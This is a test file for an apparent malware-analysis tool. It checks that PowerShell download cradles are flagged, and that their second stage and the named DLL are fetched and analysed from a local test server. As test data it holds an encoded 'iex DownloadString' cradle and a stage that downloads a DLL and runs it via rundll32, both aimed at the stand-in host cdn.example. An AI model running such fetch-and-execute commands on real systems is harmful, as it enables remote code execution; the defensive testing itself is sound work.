// With fetching on, the payload URLs PowerShell layers name are handed to the downloader as links: the
// second stage a cradle downloads is fetched from a test server on 127.0.0.1 and analysed in turn, down to
// the DLL the second stage saves and runs. With fetching off, nothing is requested.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { analyze } from '../src/analyze.ts';
import { defaultConfig } from '../src/config.ts';
import type { EngineConfig } from '../src/engine/types.ts';
import { openServices } from '../src/services.ts';
import type { Report } from '../src/verdict/report.ts';
import { startPayloadServer, type PayloadRoute, type PayloadServer } from './generators/payload-server.ts';
import { encodedLauncher } from './generators/powershell.ts';

let server: PayloadServer;

before(async () => {
  // Routes are read per request, so they can name the server's own port once it listens.
  const routes: Record<string, PayloadRoute> = {};
  server = await startPayloadServer(routes);
  const dll = server.url('/wp/p.dat', 'cdn.example');
  routes['/wp/stage2.ps1'] = {
    type: 'text/plain',
    body: `$p = "$env:PROGRAMDATA\\p.dat"; (New-Object Net.WebClient).DownloadFile('${dll}', $p); Start-Process rundll32.exe -ArgumentList "$p,DllRegisterServer"`,
  };
  // A stand-in for the DLL: only its arrival matters here.
  routes['/wp/p.dat'] = { body: new Uint8Array(512).fill(0x41), type: 'application/octet-stream' };
});
after(() => server.close());

async function run(mode: 'off' | 'live'): Promise<Report> {
  const config = defaultConfig();
  const fetch: Partial<EngineConfig['fetch']> = { mode, allowHosts: ['127.0.0.1'], resolve: { 'cdn.example': '127.0.0.1' } };
  config.fetch = { ...config.fetch, ...fetch };
  const launcher = encodedLauncher(`iex (New-Object Net.WebClient).DownloadString('${server.url('/wp/stage2.ps1', 'cdn.example')}')`);
  const { services, close } = await openServices(config);
  try {
    return await analyze({ name: 'command.txt', data: new TextEncoder().encode(launcher) }, config, services);
  } finally {
    await close();
  }
}

test('fetching off: the payload URL is reported and left alone', async () => {
  const before = server.requests.length;
  const report = await run('off');
  assert.ok(report.iocs.some((i) => i.type === 'url' && i.value === server.url('/wp/stage2.ps1', 'cdn.example') && i.role === 'payload-url'), 'payload URL');
  assert.ok(!report.artifacts.some((a) => a.relation === 'downloaded'), 'nothing downloaded');
  assert.equal(server.requests.length, before);
});

test('fetching live: the second stage is downloaded and analysed, and so is the DLL it names', async () => {
  const report = await run('live');
  const stage2 = report.artifacts.find((a) => a.relation === 'downloaded' && a.kind === 'powershell');
  assert.ok(stage2, `the second stage: ${JSON.stringify(report.artifacts.map((a) => [a.relation, a.kind, a.name]))}`);
  assert.ok(server.requests.some((r) => r.path === '/wp/stage2.ps1'), 'stage 2 requested');
  assert.ok(server.requests.some((r) => r.path === '/wp/p.dat'), 'the DLL requested');
  assert.ok(report.findings.some((f) => f.id === 'cmdline.run.rundll32'), 'the run step of stage 2');
  assert.ok(report.iocs.some((i) => i.type === 'filename' && i.value === 'C:\\ProgramData\\p.dat'), 'the saved DLL');
  assert.equal(report.verdict, 'malicious');
});
